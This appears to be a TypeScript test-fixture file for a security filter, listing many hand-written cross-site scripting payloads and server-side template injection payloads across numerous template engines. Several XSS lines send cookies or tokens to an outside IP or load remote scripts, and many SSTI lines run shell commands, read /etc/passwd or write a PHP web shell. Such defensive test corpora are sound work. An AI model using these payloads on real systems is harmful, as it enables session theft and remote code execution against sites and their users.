import { values } from '../benign/values.ts';

/** Attacks on pages and templates that no list of the corpora has: written by us before a rule was looked at. */
export const pages: Readonly<Record<string, readonly string[]>> = {
  xss: values`
<button popovertarget=p>x</button><div popover id=p onbeforetoggle=alert(5)>y</div>
<div popover=manual ontoggle=import('//203.0.113.4/a')>
<dialog open onclose=alert(1)><form method=dialog><button>
<details open ontoggle="fetch('//203.0.113.4?'+document.cookie)"><summary>
<style>@keyframes q{}</style><p style="animation-name:q" onanimationend=alert(2)>
<b style="transition:color 1s" ontransitionrun=print()>x
<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x><rect width=99 height=99 />
<svg><set attributeName=onmouseover to=alert(9)>
<svg><animate onbegin=alert(3) attributeName=x dur=1s>
<svg/onload=globalThis['al'+'ert']\`7\`>
<script type=importmap>{"imports":{"app":"https://203.0.113.3/x.js"}}</script>
<script type=module>import "//203.0.113.3/m.js"</script>
<script type=speculationrules>{"prefetch":[{"source":"list","urls":["//203.0.113.3"]}]}</script>
<link rel=modulepreload href=//203.0.113.3/m.js>
<iframe srcdoc="&lt;img src=1 onerror=parent.alert(1)&gt;">
<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">
<embed src="//203.0.113.3/x.swf" allowscriptaccess=always>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src onerror=alert(1)&gt;">
<form id=f><input name=attributes><input autofocus onfocus=alert(4)>
<video><source onerror="top.alert(6)"></video>
<audio src onloadstart=confirm(1)>
<body onhashchange=alert(1)><a href=#x>y
<body onpageshow=alert(document.domain)>
<input type=hidden oncontentvisibilityautostatechange=alert(1) style=content-visibility:auto>
<xss onscrollend=alert(1) style=overflow:auto;height:9px><br id=x>
<marquee onstart=alert(1) width=1>
<base href=//203.0.113.3/>
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<template shadowrootmode=open><script>alert(1)</script></template>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
" autofocus onfocus="alert(1)
' onpointerrawupdate=alert(1) style='position:fixed;inset:0
"><img src=x onerror=eval(atob('YWxlcnQoMSk='))>
javascript:/*--></title></style></textarea>*/void(alert(1))//
java%09script:alert(1)
data:text/html,<svg onload=alert(1)>
'-alert(1)-'
';alert(document.domain)//
\';alert(7)//
</script><script>new Image().src='//203.0.113.3/'+localStorage.token</script>
\${alert(1)}
"};confirm(document.cookie);//
<img src=x onerror="window['e'+'val'](name)">
<img src onerror=Function\`a\${'alert(1)'}\`\`\`>
<img src=x onerror=throw/**/onerror=alert,1>
<a href="jav&#x0A;ascript&colon;alert(1)">x</a>
<a href=&#106;avascript:alert\`1\`>x
<area href=javascript:top[8680439..toString(30)]()>
<isindex action=j&Tab;a&Tab;vas&Tab;c&Tab;r&Tab;ipt:alert(1) type=image>
<style>@import'//203.0.113.3/x.css';</style>
<div style="background:url(javascript:alert(1))">
<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=alert(1) /></svg>#x"/>
<svg><script href=data:,alert(1) />
<svg><foreignObject><iframe src=javascript:alert(1)>
<x contenteditable onblur=alert(1)>lose
<img/src=\`1\`/onerror=self.alert(3)>
<%00script>alert(1)</script>
<scr<script>ipt>alert(1)</scr</script>ipt>
[a](javascript:prompt(document.cookie))
![x](x"onerror="alert(1))
{{constructor.constructor('alert(1)')()}}
<div v-html="''.constructor.constructor('alert(1)')()">
<div ng-app ng-csp><input ng-focus=$event.view.alert(1)>
<div x-data x-init=alert(1)>
<img hx-get=//203.0.113.3/ hx-trigger=load onerror=alert(1) src=x>
<input onbeforeinput=alert(1) contenteditable>
<div oncommand=alert(1) id=a><button commandfor=a command=--x>
<img src=x onerror=Reflect.apply(alert,null,[1])>
<a href=//0 onclick=top['al'+'ert'](1)>x
<svg><a xlink:href="javas&#99;ript:alert(1)"><text y=9>x
<object data=javascript:alert(1)>
<iframe src="data:text/html;charset=utf-7,+ADw-script+AD4-alert(1)">
<script>({set x(y){eval(y)}}).x='alert(1)'</script>
"onmouseenter=alert(1) x="
'><details open ontoggle=self[\`ale\`+\`rt\`](1)>
\`-alert(1)-\`
</textarea><svg onload=alert(1)>
<link rel=stylesheet href=//203.0.113.1/x>
<form action=javascript:alert(1)><button>
<video poster=javascript:alert(1)//>
<p id=x tabindex=0 onfocusin=alert(1)>
#<img src=1 onerror=alert(1)>
%3Csvg%2Fonload%3Dalert%281%29%3E
onload=alert(1)//
<x onclick="location='//203.0.113.1/'+document.cookie">y
'-a()-'
";a();//
\';a();//
`,
  ssti: values`
{{7*191}}
{{ ''.__class__.__mro__[1].__subclasses__() }}
{{ cycler.__init__.__globals__.os.popen('id').read() }}
{{ lipsum.__globals__['os'].popen('id').read() }}
{{ request|attr('application')|attr('\x5f\x5fglobals\x5f\x5f') }}
{{ config.items() }}
{{ get_flashed_messages.__globals__.__builtins__.open('/etc/passwd').read() }}
{% for c in [].__class__.__base__.__subclasses__() %}{{ c }}{% endfor %}
{% import os %}{{ os.popen('id').read() }}
{%set x='id'%}{%print(x|attr('upper')())%}
{{ self._TemplateReference__context.joiner.__init__.__globals__.os }}
{{_self.env.registerUndefinedFilterCallback("exec")}}{{_self.env.getFilter("id")}}
{{['id']|filter('system')}}
{{['id',0]|sort('passthru')|join}}
{{'/etc/passwd'|file_excerpt(1,30)}}
{{app.request.server.all|join(',')}}
{{ {'a':'id'}|map('system')|join }}
\${"freemarker.template.utility.Execute"?new()("id")}
<#assign ex="freemarker.template.utility.Execute"?new()>\${ex("id")}
[#assign x = 'freemarker.template.utility.ObjectConstructor'?new()]
\${product.getClass().getProtectionDomain().getCodeSource()}
<#include "/etc/passwd">
\${.data_model?keys?join(",")}
#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))$rt.getRuntime().exec('id')
$class.inspect("java.lang.Runtime").type.getRuntime().exec("id")
#foreach($i in [1..9])$i#end
#evaluate("#set($a=1)$a")
<%= system('id') %>
<%= \`id\` %>
<%= File.open('/etc/passwd').read %>
<%= Dir.entries('/') %>
<%= 7*191 %>
#{7*191}
#{ \`id\` }
#{root.process.mainModule.require('child_process').spawnSync('id').stdout}
- var x = root.process⏎- x = x.mainModule.require⏎= x('child_process').execSync('id')
{{#with "s" as |string|}}{{#with "e"}}{{this.push (lookup string.sub "constructor")}}{{/with}}{{/with}}
{{#each (lookup this "constructor")}}{{@key}}{{/each}}
__\${T(java.lang.Runtime).getRuntime().exec("id")}__::.x
*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec("id").getInputStream())}
__\${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec("id").getInputStream()).next()}__::x
[[\${7*191}]]
[[\${#ctx}]]
[(\${T(java.lang.System).getenv()})]
@{\${T(java.lang.Math).random()}}
{php}echo \`id\`;{/php}
{system('id')}
{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,"<?php passthru($_GET['c']); ?>",self::clearConfig())}
{$smarty.version}
{if phpinfo()}{/if}
{{=7*191}}
{{= global.process.mainModule.require('child_process').execSync('id') }}
\${{<%[%'"}}%\.
{{ range.constructor("return global.process.mainModule.require('child_process').execSync('id')")() }}
{{ .System "id" }}
{{ printf "%s" .Env }}
{{ html "x" }}{{ .DebugCmd "id" }}
@(7*191)
@{ var p = System.Diagnostics.Process.Start("cmd"); }
@System.IO.File.ReadAllText("/etc/passwd")
\${7*191}
\${T(java.lang.System).getenv()}
\${self.module.cache.util.os.popen('id').read()}
<% import os %>\${os.popen('id').read()}
{{ joiner.__init__["__glo"+"bals__"] }}
{% include '/etc/passwd' %}
{% debug %}
{{ dump(app) }}
\${pageContext.request.getSession().setAttribute("a","b")}
{{ [].__class__.__base__ }}
{{ ''|attr('__class__') }}
{{ request['application']['__globals__'] }}
{{ url_for.__globals__ }}
{{9*'9'}}
<%= IO.popen('id').readlines() %>
<#list 1..9 as x>\${x}</#list><#assign s=9>
$!{x.getClass()}
#set($e="e")$e.getClass().forName("java.lang.Runtime")
{{#if (constructor)}}x{{/if}}
{{this.constructor.constructor 'return process'}}
[[\${T(java.lang.Runtime).getRuntime()}]]
{fetch file='/etc/passwd'}
#{global.process.env}
{{ namespace.__init__ }}
@(1+1)@System.Environment.MachineName
\${{7*7}}
<%- global.process.mainModule.require('fs').readdirSync('/') %>
{{ _self.env.setCache("ftp://203.0.113.9") }}
\${(1..9)?join(",")}
{{ [].class.base }}
{!7*7!}
`,
};
